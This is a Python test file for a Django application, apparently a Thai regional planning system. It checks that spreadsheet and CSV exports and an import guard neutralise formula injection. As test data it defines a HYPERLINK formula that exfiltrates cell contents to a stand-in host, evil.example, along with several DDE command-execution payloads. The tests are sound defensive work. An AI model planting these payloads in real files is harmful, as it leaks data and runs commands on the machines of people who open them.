"""Finding 3 as it was made, and the export walk: every XLSX and CSV reachable from the URL conf,
with hostile text in every named thing, holds no formula cell; CSV text that a spreadsheet would
run starts with an apostrophe."""

import csv
import io

import pytest
from django.apps import apps
from django.db import models
from openpyxl import load_workbook

from core.cells import csv_value, looks_like_formula
from core.tests.test_walk import urls
from orgs.tests.test_tenant_isolation import object_ids

pytestmark = pytest.mark.django_db
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"ดูรายละเอียด")'
DDE = "=cmd|' /C calc'!A0"
TEXT_FIELDS = (
    "name",
    "objective",
    "target",
    "title",
    "responsible_unit",
    "note",
    "evidence",
    "vision",
)


def poison():
    """Every text field of that kind, in every app of ours, becomes a formula."""
    n = 0
    for app in ("orgs", "plans", "monitoring", "evaluation", "province"):
        for model in apps.get_app_config(app).get_models():
            for field in model._meta.get_fields():
                if field.name in TEXT_FIELDS and isinstance(
                    field, models.CharField | models.TextField
                ):
                    limit = getattr(field, "max_length", None) or 1000
                    for pk in model.objects.values_list(
                        "pk", flat=True
                    ):  # distinct: some are unique
                        value = (HYPERLINK if n % 2 == 0 else DDE) + f" {pk}"
                        n += model.objects.filter(pk=pk).update(
                            **{
                                field.name: value[-limit:]
                                if limit < 20
                                else value[: limit - 8] + f" {pk}"
                            }
                        )
    return n


def test_every_export_writes_hostile_text_as_text(client, cast, plan_a, reference_lists):
    ids = object_ids(plan_a)
    from evaluation.models import Survey

    site = urls(cast.a.code, ids, Survey.objects.get(pk=ids["survey_id"]).token)
    site += [u.replace("pdf", fmt) for u in site if "pdf" in u for fmt in ("xlsx", "csv", "docx")]
    assert poison() > 10
    seen = {"xlsx": 0, "csv": 0}
    for who in (cast.alice, cast.pat):
        client.force_login(who)
        for url in site + [
            f"/open-data/{cast.a.code}/plan.csv",
            f"/open-data/{cast.a.code}/reports.csv",
        ]:
            response = client.get(url)
            kind = response.get("Content-Type", "")
            if response.status_code != 200:
                continue
            body = b"".join(response.streaming_content) if response.streaming else response.content
            if "spreadsheetml" in kind:
                seen["xlsx"] += 1
                wb = load_workbook(io.BytesIO(body))
                for ws in wb.worksheets:
                    for row in ws.iter_rows():
                        for cell in row:
                            assert cell.data_type != "f", (
                                url,
                                ws.title,
                                cell.coordinate,
                                cell.value,
                            )
            elif "text/csv" in kind:
                seen["csv"] += 1
                for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))):
                    for value in row:
                        assert not (value[:1] in "=+-@\t\r" and value != csv_value(value)), (
                            url,
                            value,
                        )
    assert seen["xlsx"] >= 5 and seen["csv"] >= 1, seen


@pytest.mark.parametrize(
    "text", ["-2+3+cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "=1+1", "@SUM(A1)", "-cmd|x", "+A1"]
)
def test_the_import_guard_refuses_formulas_that_start_with_a_sign(text):
    assert looks_like_formula(text)


@pytest.mark.parametrize(
    "text", ["-", "-500", "+66 81 234 5678", "- ก่อสร้างถนน คสล.", "ถนน = 5 กม."]
)
def test_the_import_guard_lets_ordinary_text_in(text):
    assert not looks_like_formula(text)


def test_the_p02_workbook_of_the_attack_has_no_formula(client, cast, plan_a):
    from plans.models import Project

    assert Project.objects.exists()
    poison()
    client.force_login(cast.alice)
    response = client.get(f"/o/{cast.a.code}/documents/p02.xlsx")
    if response.status_code == 404:
        from django.urls import reverse

        response = client.get(reverse("reports:p02", args=[cast.a.code, "xlsx"]))
    wb = load_workbook(io.BytesIO(response.content))
    values = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert any(
        isinstance(v, str) and v.startswith(("=HYPERLINK", "=cmd")) for v in values
    )  # as text
    assert all(c.data_type != "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row)
